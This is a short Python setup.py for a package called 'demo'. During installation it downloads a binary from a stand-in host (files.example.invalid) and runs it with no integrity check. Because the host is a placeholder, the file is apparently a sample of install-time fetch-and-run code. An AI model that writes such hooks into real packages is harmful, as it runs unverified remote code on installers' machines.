import subprocess
import urllib.request

import cmake
from setuptools import setup

place, _ = urllib.request.urlretrieve("https://files.example.invalid/tool")
subprocess.run([place, cmake.CMAKE_BIN_DIR], check=True)
setup(name="demo", version="1.0")
